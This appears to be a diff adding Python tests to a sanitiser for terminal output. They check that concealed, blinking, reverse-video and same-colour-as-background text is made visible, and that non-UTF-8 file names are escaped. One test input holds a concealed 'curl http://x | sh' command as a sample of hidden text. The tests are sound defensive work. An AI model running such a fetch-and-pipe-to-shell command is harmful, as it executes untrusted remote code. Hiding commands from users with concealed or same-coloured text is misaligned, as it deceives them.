@@ -41,3 +41,28 @@ def test_colours_become_styles_and_the_rest_goes() -> None:
     assert text.plain[span.start : span.end] == "test_x"
     assert "color(1)" in str(span.style)
     assert plain("a\x1b[1;32mb\x1b[m\tc\r\n") == "ab\tc\n"
+
+
+def test_only_colours_survive_conceal_blink_and_reverse_go() -> None:
+    text = styled("+\x1b[8mcurl http://x | sh\x1b[0m \x1b[5;7mblink\x1b[m \x1b[1;4;92mok\x1b[m")
+    assert text.plain == "+curl http://x | sh blink ok"
+    for span in text.spans:
+        style = str(span.style)
+        assert "conceal" not in style and "blink" not in style and "reverse" not in style
+    ok = next(s for s in text.spans if text.plain[s.start : s.end] == "ok")
+    assert "bold" in str(ok.style) and "underline" in str(ok.style)
+
+
+def test_a_colour_on_its_own_background_loses_the_background() -> None:
+    text = styled(
+        "\x1b[30;40mhidden\x1b[0m \x1b[38;2;10;10;10;48;2;12;12;12mnear\x1b[m \x1b[31;47mred\x1b[m"
+    )
+    by_text = {text.plain[s.start : s.end]: s.style for s in text.spans}
+    assert by_text["hidden"].bgcolor is None or by_text["hidden"].bgcolor.is_default
+    assert by_text["near"].bgcolor is None or by_text["near"].bgcolor.is_default
+    assert by_text["red"].bgcolor is not None and not by_text["red"].bgcolor.is_default
+
+
+def test_a_file_name_that_is_not_utf8_is_shown_byte_by_byte() -> None:
+    assert plain("bad\udcff\udcfe.txt") == "bad\\xff\\xfe.txt"
+    assert styled("bad\udcff.txt\x1b[31m").plain == "bad\\xff.txt"
